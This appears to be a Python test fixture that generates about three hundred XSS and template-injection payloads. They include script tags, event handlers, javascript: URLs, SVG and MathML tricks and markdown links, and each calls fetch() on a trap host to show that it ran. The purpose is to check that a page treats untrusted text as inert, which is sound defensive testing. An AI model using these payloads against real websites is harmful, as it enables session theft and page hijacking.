"""Three hundred texts that would do something if any page, frame or attribute took them for more than text."""


def texts(trap):
    """Each tells the trap, or sets `window.owned`, if it ever runs."""
    act = f"window.owned=1;fetch('{trap}/ran')"
    q = act.replace("'", "&#39;")
    seeds = [
        f"<script>{act}</script>", f"<ScRiPt>{act}</sCrIpT>", f"</title><script>{act}</script>", f"</textarea><script>{act}</script>",
        f"</style><script>{act}</script>", f"--><script>{act}</script>", f"]]><script>{act}</script>", f"</iframe><script>{act}</script>",
        f'"><script>{act}</script>', f"'><script>{act}</script>", f"`><script>{act}</script>", f"<script src={trap}/s.js></script>",
        f'<script src="//{trap[7:]}/s.js"></script>', f"<script/x>{act}</script>", f"<script\n>{act}</script\n>", f"<scr<script>ipt>{act}</script>",
        f'<img src=x onerror="{act}">', f"<img src=x onerror={q.replace(' ', '')}>", f'"><img src=x onerror="{act}">', f"'><img src=x onerror=\"{act}\">",
        f'" onmouseover="{act}" x="', f"' onmouseover='{q}' x='", f'" autofocus onfocus="{act}" x="', f'x" onerror="{act}', f'<body onload="{act}">',
        f'<svg onload="{act}">', f'<svg/onload="{act}">', f"<svg><script>{act}</script></svg>", f'<svg><animate onbegin="{act}" attributeName=x dur=1s>',
        f'<svg><a xlink:href="javascript:{act}"><text>x</text></a></svg>', f'<svg><use href="data:image/svg+xml,<svg id=x onload=\'{q}\'/>#x"/></svg>',
        f'<math><mtext></form><form><mglyph><style></math><img src onerror="{act}">', f'<math href="javascript:{act}">x</math>',
        f"<iframe src=\"javascript:{act}\"></iframe>", f'<iframe srcdoc="<script>{q}</script>"></iframe>', f"<iframe src={trap}/frame></iframe>",
        f"<object data=\"javascript:{act}\"></object>", f"<embed src=\"javascript:{act}\">", f"<object data={trap}/o></object>",
        f'<a href="javascript:{act}">x</a>', f'<a href="JaVaScRiPt:{act}">x</a>', f'<a href="java\tscript:{act}">x</a>', f'<a href=" javascript:{act}">x</a>',
        f'<a href="data:text/html,<script>{act}</script>">x</a>', f"[x](javascript:{act})", f"[x](data:text/html,{act})", f"![x](javascript:{act})",
        f"![x]({trap}/image.png)", f"<javascript:{act}>", f"[x]: javascript:{act}\n[x]", f"<link rel=stylesheet href={trap}/c.css>",
        f"<style>@import '{trap}/c.css';</style>", f"<style>*{{background:url({trap}/bg)}}</style>", f'<p style="background:url({trap}/bg)">x</p>',
        f'<meta http-equiv=refresh content="0;url={trap}/refresh">', f"<base href={trap}/>", f'<form action="{trap}/form"><input autofocus onfocus="{act}"></form>',
        f'<button formaction="javascript:{act}">x</button>', f'<video><source onerror="{act}"></video>', f'<audio src=x onerror="{act}">',
        f'<details open ontoggle="{act}">', f'<marquee onstart="{act}">', f'<input type=image src=x onerror="{act}">', f'<select autofocus onfocus="{act}">',
        f'<isindex type=image src=1 onerror="{act}">', f'<noscript><p title="</noscript><img src=x onerror={q}>">', f"{{{{constructor.constructor('{q}')()}}}}",
        "{{#each this}}{{@key}}{{/each}}", "{{lookup . 'keys'}}", "{{{body}}}", "${" + act + "}", "<%= 7*7 %>", "#{7*7}", "{{7*7}}",
    ]
    wraps = [
        lambda text: text, lambda text: "Ada " + text, lambda text: text.replace("<", "\u003c").replace(" ", "\u00a0", 1), lambda text: "\u202e" + text,
        lambda text: text + "\u0000".replace("\u0000", "") + "x" * 40,
    ]
    found = [wrap(seed) for wrap in wraps for seed in seeds]
    return list(dict.fromkeys(found))[:300]
